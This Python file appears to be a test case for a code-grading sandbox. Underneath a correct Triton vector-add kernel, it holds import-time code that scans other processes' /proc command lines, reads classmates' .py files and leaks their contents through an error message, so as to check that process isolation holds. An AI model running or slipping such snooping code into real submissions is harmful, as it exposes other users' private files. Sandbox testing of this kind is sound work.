"""Sandbox escape (exercise 1): finds the class folder on another process's command line and reads a classmate.

A correct vector add underneath. When the attack works it raises an error whose message is what
it found (ESCAPED: ...), so the leak would show in the learner's results; when the sandbox holds,
the attack finds nothing and the file passes.
"""

import os

import torch
import triton
import triton.language as tl

ATTACK = 'reads every /proc/<pid>/cmdline it can, takes each folder named there, and raises with the first other .py file it can read'
KIND = "sandbox"
WRONG_UNDERNEATH = False
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ('open()',)
REJECTED_BY = 'the sandbox: the learner sees only its own processes (a PID namespace, hidepid) and no folder a command line names; the file passes'
#: The sentence the file must get (None: it must pass).
SENTENCE = None

def _classmates():
    mine = os.path.basename(__file__)
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as line:
                words = line.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for word in words:
            folder = word.split("=", 1)[-1]
            folder = folder if os.path.isdir(folder) else os.path.dirname(folder)
            try:
                names = sorted(os.listdir(folder))
            except OSError:
                continue
            for name in names:
                if name.endswith(".py") and name != mine:
                    try:
                        with open(os.path.join(folder, name)) as stolen:
                            yield f"{folder}/{name}: {stolen.read()[:200]}"
                    except OSError:
                        continue


for _found in _classmates():
    raise RuntimeError("ESCAPED: " + _found)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    total = tl.load(x_ptr + offsets, mask=mask).to(tl.float32) + tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, total.to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    out = torch.empty_like(x)
    n = out.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
